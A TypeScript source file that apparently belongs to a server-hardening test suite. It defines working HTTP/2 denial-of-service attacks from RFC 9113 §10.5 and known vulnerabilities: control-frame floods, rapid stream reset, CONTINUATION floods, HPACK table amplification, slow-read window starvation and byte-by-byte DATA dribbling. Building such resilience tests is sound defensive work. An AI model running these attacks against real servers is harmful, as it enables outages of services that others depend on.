/** Attacks over HTTP/2: each of RFC 9113 §10.5 and of the named vulnerabilities. */
import { Flag, FrameType } from "../../http/h2/frame.ts";
import {
  block,
  concat,
  data,
  EMPTY,
  frame,
  headers,
  ping,
  rstStream,
  settings,
  windowUpdate,
} from "../../support/frames.ts";
import { type Attack, H2 } from "./shape.ts";

const A = Uint8Array.of(65);
const INITIAL_WINDOW_SIZE = 4;

const post = (path: string, ...more: string[]) => [
  ":method",
  "POST",
  ":scheme",
  "http",
  ":path",
  path,
  ":authority",
  "x",
  ...more,
];
const get = (path: string) => [":method", "GET", ...post(path).slice(2)];

/** DATA frames on some streams of one connection. */
function dribble(
  name: string,
  path: string,
  size: number,
  { streams = 1, payload = A as Uint8Array, padding = -1 } = {},
): Attack {
  return {
    name,
    protocol: "HTTP/2",
    size,
    async run(port, n) {
      const h2 = await H2.open(port);
      const ids = Array.from({ length: streams }, (_, i) => 1 + 2 * i);
      for (const id of ids) await h2.send(headers(id, post(path)));
      await Promise.all(
        ids.map((id) => h2.dataFrames(id, Math.ceil(n / streams), payload, padding)),
      );
      for (const id of ids) await h2.send(data(id, EMPTY, true));
      await h2.close();
    },
  };
}

/** One frame many times. */
function flood(name: string, unit: Uint8Array, size: number, reads = true): Attack {
  return {
    name,
    protocol: "HTTP/2",
    size,
    async run(port, n) {
      const h2 = await H2.open(port, { reads });
      await h2.send(headers(1, post("/never")));
      await h2.repeat(unit, n);
      await h2.close();
    },
  };
}

/** `n` streams one after the other, each by the frames `each` gives. */
function streams(name: string, size: number, each: (id: number) => Uint8Array): Attack {
  return {
    name,
    protocol: "HTTP/2",
    size,
    async run(port, n) {
      const h2 = await H2.open(port);
      for (let i = 0; i < n && h2.going; i += 500) {
        const parts: Uint8Array[] = [];
        for (let k = i; k < Math.min(n, i + 500); k++) parts.push(each(1 + 2 * k));
        await h2.send(concat(...parts));
      }
      await h2.close();
    },
  };
}

/** HEADERS without END_HEADERS, then `n` CONTINUATION frames. */
function continuation(name: string, payload: Uint8Array, size: number): Attack {
  return {
    name,
    protocol: "HTTP/2",
    size,
    async run(port, n) {
      const h2 = await H2.open(port);
      await h2.send(headers(1, post("/"), { endHeaders: false }));
      await h2.repeat(frame(FrameType.CONTINUATION, 0, 1, payload), n);
      await h2.close();
    },
  };
}

/** Responses that `streams` streams of a connection ask for and do not take. */
function hold(name: string, size: number, drip: boolean): Attack {
  return {
    name,
    protocol: "HTTP/2",
    size,
    async run(port, n) {
      const h2 = await H2.open(port, { entries: [[INITIAL_WINDOW_SIZE, 0]] });
      const ids = Array.from({ length: n }, (_, i) => 1 + 2 * i);
      await h2.send(concat(...ids.map((id) => headers(id, get("/big"), { end: true }))));
      for (let i = 0; drip && i < 20 && h2.going; i++) {
        await h2.send(concat(...ids.map((id) => windowUpdate(id, 1))));
        await new Promise((resolve) => setTimeout(resolve, 100));
      }
      await h2.close(3000);
    },
  };
}

export const HTTP2_ATTACKS: readonly Attack[] = [
  dribble("1-byte DATA, read whole", "/whole", 100_000),
  dribble("1-byte DATA, read late", "/late", 100_000),
  dribble("1-byte DATA, never read", "/never", 100_000, { streams: 16 }),
  dribble("1-byte DATA, read in pieces", "/pieces", 100_000),
  dribble("empty DATA", "/late", 50_000, { payload: EMPTY }),
  dribble("DATA of padding alone", "/late", 50_000, { payload: EMPTY, padding: 255 }),
  dribble("1-byte DATA with padding", "/late", 50_000, { padding: 255 }),
  dribble("uploads nobody reads", "/never", 500, {
    streams: 50,
    payload: new Uint8Array(16_000),
  }),
  flood("PING, answers read", ping(), 50_000),
  flood("PING, answers unread", ping(), 50_000, false),
  flood("SETTINGS, answers read", settings(), 50_000),
  flood("SETTINGS, answers unread", settings([INITIAL_WINDOW_SIZE, 70_000]), 50_000, false),
  flood("SETTINGS of 1,000 entries", settings(...entries(1000)), 250),
  flood("WINDOW_UPDATE of 1 byte", windowUpdate(0, 1), 100_000),
  flood("PRIORITY", frame(FrameType.PRIORITY, 0, 3, new Uint8Array(5)), 50_000),
  flood("frames of unknown types", frame(0xfa, 0, 0, EMPTY), 50_000),
  streams(
    "streams opened and reset",
    5000,
    (id) => concat(headers(id, get("/late"), { end: true }), rstStream(id, 8)),
  ),
  streams(
    "streams reset by WINDOW_UPDATE of 0",
    5000,
    (id) => concat(headers(id, get("/late"), { end: true }), windowUpdate(id, 0)),
  ),
  streams(
    "streams reset by a wrong content-length",
    5000,
    (id) => concat(headers(id, post("/late", "content-length", "5")), data(id, A, true)),
  ),
  streams("streams with malformed heads", 5000, (id) => headers(id, ["x", "y"], { end: true })),
  streams(
    "requests beyond the limit of streams",
    5000,
    (id) => headers(id, get("/late"), { end: true }),
  ),
  continuation("CONTINUATION, empty", EMPTY, 25_000),
  continuation("CONTINUATION of 1 byte", Uint8Array.of(0x82), 25_000),
  continuation("CONTINUATION, large", block(["x", "y".repeat(16_000)]), 250),
  {
    name: "header block that grows by its table",
    protocol: "HTTP/2",
    size: 100,
    async run(port, n) {
      const h2 = await H2.open(port);
      // One entry of 4,000 bytes, then blocks of 16,000 references to it.
      const entry = concat(
        block(get("/")),
        Uint8Array.of(0x40, 1, 0x61, 0x7f, 0xa1, 0x1e),
        new Uint8Array(4000).fill(0x62),
      );
      await h2.send(frame(FrameType.HEADERS, Flag.END_HEADERS | Flag.END_STREAM, 1, entry));
      const references = concat(block(get("/")), new Uint8Array(16_000).fill(0xbe));
      for (let i = 1; i <= n && h2.going; i++) {
        await h2.send(
          frame(FrameType.HEADERS, Flag.END_HEADERS | Flag.END_STREAM, 1 + 2 * i, references),
        );
      }
      await h2.close();
    },
  },
  {
    name: "heads of answers nobody reads",
    protocol: "HTTP/2",
    size: 25_000,
    async run(port, n) {
      const h2 = await H2.open(port, { reads: false });
      for (let i = 0; i < n && h2.going; i += 50) {
        const ids = Array.from({ length: 50 }, (_, k) => 1 + 2 * (i + k));
        await h2.send(concat(...ids.map((id) => headers(id, get("/head"), { end: true }))));
      }
      await h2.close(3000);
    },
  },
  hold("responses no window is opened for", 25, false),
  hold("responses taken byte by byte", 25, true),
  {
    name: "connections that say nothing",
    protocol: "HTTP/2",
    size: 50,
    async run(port, n) {
      const all = await Promise.all(Array.from({ length: n }, () => H2.open(port)));
      await Promise.all(all.map((h2) => h2.send(headers(1, post("/whole")))));
      await Promise.all(all.map((h2) => h2.close(2000)));
    },
  },
];

function entries(n: number): [number, number][] {
  return Array.from({ length: n }, () => [INITIAL_WINDOW_SIZE, 65_535]);
}
